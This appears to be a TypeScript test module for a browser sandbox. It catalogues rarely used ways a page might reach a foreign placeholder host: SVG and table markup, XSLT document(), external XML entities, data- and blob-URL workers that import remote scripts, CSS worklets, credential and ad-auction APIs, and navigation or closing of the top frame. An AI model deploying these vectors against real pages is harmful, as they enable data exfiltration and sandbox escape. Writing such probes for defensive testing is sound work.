// Attempts to send something away by what pages seldom use.
import { connects, goesBack, markup, script, type Any, type Targets } from './attempt.js';

const inWorker = ({ foreign, own, socket }: Targets) =>
  `for (const to of ${JSON.stringify([foreign, own])}) { fetch(to).catch(() => 0); try { importScripts(to) } catch {} }
  try { new WebSocket(${JSON.stringify(socket)}) } catch {}`;

const elements = [
  markup('input of type image', '<input type="image" src="FOREIGN?input">'),
  markup('background of a table', '<table background="FOREIGN?table"><tr><td>x</table>'),
  markup('source of a video', '<video preload="auto"><source src="FOREIGN?source"></video>'),
  markup('portal', '<portal src="FOREIGN?portal"></portal>'),
  markup('compression dictionary', '<link rel="compression-dictionary" href="FOREIGN?dictionary">'),
  markup(
    'svg image whose address is animated',
    '<svg><image width="9" height="9"><set attributeName="href" to="FOREIGN?set"/></image></svg>',
  ),
  script('svg script', ({ foreign }) => {
    const of = (tag: string) => document.createElementNS('http://www.w3.org/2000/svg', tag);
    const code = of('script');
    code.setAttribute('href', `${foreign}?svg`);
    const svg = of('svg');
    svg.append(code);
    document.body.append(svg);
  }),
  script('styles set by a script', ({ foreign }) => {
    for (const name of ['background', 'cursor', 'content', 'listStyle', 'maskImage', 'filter'])
      (document.body.style as Any)[name] = `url("${foreign}?${name}")`;
  }),
];

const programs = [
  script('XSLT that reads documents', ({ foreign, own }) => {
    const parse = (text: string) => new DOMParser().parseFromString(text, 'text/xml');
    const processor = new XSLTProcessor();
    const xsl = 'http://www.w3.org/1999/XSL/Transform';
    for (const from of [foreign, own]) {
      const rule = `<xsl:template match="/"><x><xsl:copy-of select="document('${from}?xslt')"/></x></xsl:template>`;
      const imported = `<xsl:import href="${from}?import"/>`;
      for (const body of [rule, imported + rule])
        try {
          processor.importStylesheet(
            parse(`<xsl:stylesheet version="1.0" xmlns:xsl="${xsl}">${body}</xsl:stylesheet>`),
          );
          processor.transformToFragment(parse('<a/>'), document);
        } catch {
          // the next one
        }
    }
  }),
  script('XML with entities elsewhere', ({ foreign }) => {
    const text = `<!DOCTYPE a SYSTEM "${foreign}?dtd" [<!ENTITY e SYSTEM "${foreign}?entity">]><a>&e;</a>`;
    document.body.append(new DOMParser().parseFromString(text, 'text/xml').documentElement);
  }),
  script(
    'worker in its address',
    Function(
      'to',
      `new Worker('data:text/javascript,' + encodeURIComponent((${String(inWorker)})(to)))`,
    ) as (to: Targets) => unknown,
  ),
  script(
    'shared worker from memory',
    Function(
      'to',
      `new SharedWorker(URL.createObjectURL(new Blob([(${String(inWorker)})(to)], { type: 'text/javascript' })))`,
    ) as (to: Targets) => unknown,
  ),
  script('worklets of styles', async ({ foreign }) => {
    const css = CSS as Any;
    for (const name of ['paintWorklet', 'layoutWorklet', 'animationWorklet'])
      await css[name]?.addModule(`${foreign}?${name}`).catch(() => 0);
  }),
];

const services = [
  script('passkey of another origin', () =>
    navigator.credentials.get({
      publicKey: { challenge: new Uint8Array(16), rpId: '127.0.0.1', timeout: 500 },
    }),
  ),
  script('icon of a stored credential', ({ foreign }) => {
    const credential = new (globalThis as Any).PasswordCredential({
      ...{ id: 'x', password: 'x', name: 'x' },
      iconURL: foreign.replace('http:', 'https:'),
    });
    return navigator.credentials.store(credential);
  }),
  script('an auction', ({ foreign }) =>
    (navigator as Any).runAdAuction({ seller: foreign, decisionLogicURL: `${foreign}?auction` }),
  ),
  script('an interest group', ({ foreign }) =>
    (navigator as Any).joinAdInterestGroup(
      { owner: foreign, name: 'x', updateURL: `${foreign}?group` },
      1000,
    ),
  ),
  script('a handler of addresses', ({ foreign }) =>
    navigator.registerProtocolHandler('web+stolen', `${foreign}?%s`),
  ),
  script('share', ({ foreign }) => navigator.share({ url: foreign, text: 'x' })),
  script('a window above others', async ({ foreign }) => {
    const opened = await (globalThis as Any).documentPictureInPicture.requestWindow();
    opened.location.href = `${foreign}?above`;
  }),
];

const elsewhere = [
  script('download, from memory', () => {
    const link = document.createElement('a');
    link.href = URL.createObjectURL(new Blob(['stolen']));
    link.download = 'stolen';
    document.body.append(link);
    link.click();
  }),
  script('link to a page in memory', () => {
    const link = document.createElement('a');
    link.href = URL.createObjectURL(new Blob(['<p>x'], { type: 'text/html' }));
    link.target = '_top';
    document.body.append(link);
    link.click();
  }),
  script('history, to the page before', () => history.back(), goesBack),
  script('history of the shell', () => top!.history.back(), goesBack),
  script('navigation of the shell', ({ foreign }) => (top as Any).navigation.navigate(foreign)),
  script('close of the shell', () => top!.close()),
  script(
    'frame in a frame: its address',
    ({ foreign }) => {
      const outer = document.body.appendChild(document.createElement('iframe'));
      const inner = outer.contentWindow!.document.createElement('iframe');
      outer.contentWindow!.document.body.append(inner);
      inner.src = `${foreign}?inner`;
    },
    connects,
  ),
];

export const rare = [...elements, ...programs, ...services, ...elsewhere];
